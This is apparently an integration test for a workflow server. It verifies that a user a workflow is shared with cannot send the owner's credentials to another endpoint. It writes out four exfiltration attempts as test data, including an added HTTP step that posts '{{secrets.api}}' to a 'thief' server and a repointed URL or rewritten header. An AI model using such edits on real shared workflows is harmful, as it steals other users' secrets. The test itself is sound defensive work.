//! A user a workflow is shared with (`update`) edits it freely, but every version they save runs
//! without the owner's secrets until the owner saves it: each route to the owner's credentials
//! and sealed values ends in a step that fails saying so, and the sharee's receiver gets nothing.

use super::*;

/// The owner's workflow: one `http_request` that sends a credential and a sealed field to the
/// owner's own endpoint.
fn owners_workflow(endpoint: &str) -> Value {
	json!({"name": "owner's call", "definition": {
		"components": [
			{"id": "start", "type": "start"},
			{"id": "call", "type": "http_request", "config": {"url": endpoint, "method": "GET",
				"headers": {"X-Api": "{{secrets.api}}"}, "auth": {"token": "SEALED-FIELD-VALUE"}}},
			{"id": "end", "type": "end"}
		],
		"connections": [{"source": "start", "target": "call"}, {"source": "call", "target": "end"}]
	}})
}

/// The definition as the API shows it (masked), for a client to edit and write back.
async fn definition(server: &Server, who: &reqwest::Client, wf: &str) -> Value {
	let body = get_json(who, server.url(&format!("/api/v1/workflows/{wf}"))).await;
	body["data"]["definition"].clone()
}

/// Saves `definition` as `who` and returns the workflow as the server answered.
async fn save(server: &Server, who: &reqwest::Client, wf: &str, definition: Value) -> Value {
	let r = who
		.patch(server.url(&format!("/api/v1/workflows/{wf}")))
		.json(&json!({"definition": definition}))
		.send()
		.await
		.unwrap();
	assert_eq!(r.status(), 200, "save");
	r.json::<Value>().await.unwrap()["data"].clone()
}

/// Runs the workflow as `who` and returns the execution detail as text.
async fn run(server: &Server, who: &reqwest::Client, wf: &str) -> (String, String) {
	let exec = execute(server, who, wf).await;
	let ended = wait_ended(server, who, &exec).await;
	let detail = get_text(who, server.url(&format!("/api/v1/executions/{exec}"))).await;
	(ended["status"].as_str().unwrap().to_owned(), detail)
}

async fn a_sharee_cannot_route_the_owners_secrets_anywhere(server: Server) {
	let (owners, owner_seen) = echo_server();
	let (thief, thief_seen) = echo_server();
	let admin = admin_client(&server.base).await;
	let owner = account(&server, &admin, "owner", "editor").await;
	let mallory = account(&server, &admin, "mallory", "editor").await;
	let r = owner
		.client
		.post(server.url("/api/v1/credentials"))
		.json(&json!({"name": "api", "value": "OWNER-CREDENTIAL-VALUE"}));
	assert_eq!(status(r).await, 201);
	let r = owner
		.client
		.post(server.url("/api/v1/workflows"))
		.json(&owners_workflow(&owners))
		.send()
		.await
		.unwrap();
	assert_eq!(r.status(), 201);
	let wf = r.json::<Value>().await.unwrap()["data"]["id"]
		.as_str()
		.unwrap()
		.to_owned();
	let shares = json!({"shares": [
		{"user_id": mallory.id, "actions": ["read", "update", "execute"]}]});
	let url = server.url(&format!("/api/v1/workflows/{wf}/shares"));
	assert_eq!(status(owner.client.put(&url).json(&shares)).await, 200);
	// The owner's own version has its secrets.
	let (ended, _) = run(&server, &owner.client, &wf).await;
	assert_eq!(ended, "completed");
	assert!(
		owner_seen
			.lock()
			.unwrap()
			.contains("OWNER-CREDENTIAL-VALUE")
	);

	let original = definition(&server, &mallory.client, &wf).await;
	let mut routes: Vec<(&str, Value)> = Vec::new();
	// 1. A new http_request that sends the credential to the sharee.
	let mut added = original.clone();
	added["components"].as_array_mut().unwrap().insert(
		2,
		json!({"id": "leak", "type": "http_request", "config": {"url": thief, "method": "POST",
			"body": {"k": "{{secrets.api}}"}}}),
	);
	added["connections"] = json!([{"source": "start", "target": "call"},
		{"source": "call", "target": "leak"}, {"source": "leak", "target": "end"}]);
	routes.push(("a new http_request", added));
	// 2. The secret-bearing component renamed and pointed elsewhere.
	let mut renamed = original.clone();
	renamed["components"][1]["id"] = json!("call2");
	renamed["components"][1]["config"]["url"] = json!(thief);
	renamed["connections"] = json!([{"source": "start", "target": "call2"},
		{"source": "call2", "target": "end"}]);
	routes.push(("a renamed component", renamed));
	// 3. Only the URL changed: the sealed field (`***`, "unchanged") stays sealed.
	let mut moved = original.clone();
	moved["components"][1]["config"]["url"] = json!(thief);
	routes.push(("a moved URL", moved));
	// 4. The credential echoed by a task and then sent on in a header the sharee reads.
	let mut echoed = original.clone();
	echoed["components"][1]["config"]["url"] = json!(thief);
	echoed["components"][1]["config"]["headers"] = json!({"X-Api": "x{{ secrets.api }}x"});
	routes.push(("a rewritten header", echoed));

	for (route, def) in routes {
		let saved = save(&server, &mallory.client, &wf, def).await;
		assert_eq!(saved["secrets_allowed"], false, "{route}: {saved}");
		assert_eq!(saved["saved_by"], mallory.id.as_str(), "{route}");
		for who in [&mallory.client, &owner.client] {
			let (ended, detail) = run(&server, who, &wf).await;
			assert_eq!(ended, "failed", "{route}: {detail}");
			assert!(detail.contains("not by its owner"), "{route}: {detail}");
		}
		let seen = thief_seen.lock().unwrap().clone();
		assert!(
			!seen.contains("OWNER-CREDENTIAL-VALUE") && !seen.contains("SEALED-FIELD-VALUE"),
			"{route}: the sharee received {seen}"
		);
	}
	// The versions say who saved them and which may use secrets.
	let versions = get_json(
		&owner.client,
		server.url(&format!("/api/v1/workflows/{wf}/versions")),
	)
	.await;
	let versions = versions["data"].as_array().unwrap();
	assert_eq!(versions[0]["secrets_allowed"], true);
	assert!(versions[1..].iter().all(|v| v["secrets_allowed"] == false));

	// The owner saves what the sharee left, unchanged: that approves it.
	let current = definition(&server, &owner.client, &wf).await;
	let approved = save(&server, &owner.client, &wf, current).await;
	assert_eq!(approved["secrets_allowed"], true, "{approved}");
	let (ended, detail) = run(&server, &owner.client, &wf).await;
	assert_eq!(ended, "completed", "{detail}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sharee_cannot_route_the_owners_secrets_anywhere_on_sqlite() {
	let dir = tempfile::tempdir().unwrap();
	let server = Server::start_in(&dir.path().join("data"), &[("APG_HTTP_ALLOW", "127.0.0.1")]);
	a_sharee_cannot_route_the_owners_secrets_anywhere(server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sharee_cannot_route_the_owners_secrets_anywhere_on_postgres() {
	let Some(server) = Server::start_postgres_with(&[("APG_HTTP_ALLOW", "127.0.0.1")]).await else {
		eprintln!("skipped: APG_TEST_DATABASE_URL is not set");
		return;
	};
	a_sharee_cannot_route_the_owners_secrets_anywhere(server).await;
}
